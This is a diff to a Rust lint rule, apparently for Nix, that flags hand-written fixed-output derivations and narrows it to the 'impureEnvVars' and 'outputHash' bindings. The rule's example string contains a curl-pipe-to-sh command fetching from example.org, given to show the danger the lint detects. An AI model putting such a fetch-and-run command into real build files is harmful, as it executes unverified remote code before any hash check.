@@ -2,7 +2,7 @@
 
 use attestation::unit::FindingLevel;
 
-use crate::{names, resolve::Attribute, syntax::tree::Kind, marks::{Marks, BindingSeen}, Rule, rule::{Look}};
+use crate::{names, resolve::Attribute, syntax::tree::Kind, marks::{Marks, BindingSeen}, Rule, rule::{AtBindings, Look}};
 
 pub(crate) static RULE: Rule = Rule {
     code: "hand-made-fod",
@@ -12,7 +12,7 @@ pub(crate) static RULE: Rule = Rule {
     example: "+    outputHash = \"sha256-AAA…\";\n+    buildCommand = \"curl https://example.org/x | sh\";",
     advice: "Ask why none of the fetchers does it. What runs before the hash is checked can do whatever it likes.",
     look: Look {
-        binding: Some(binding),
+        binding: Some(AtBindings::named(&["impureEnvVars", "outputHash"], binding)),
         ..Look::ELSEWHERE
     },
 };
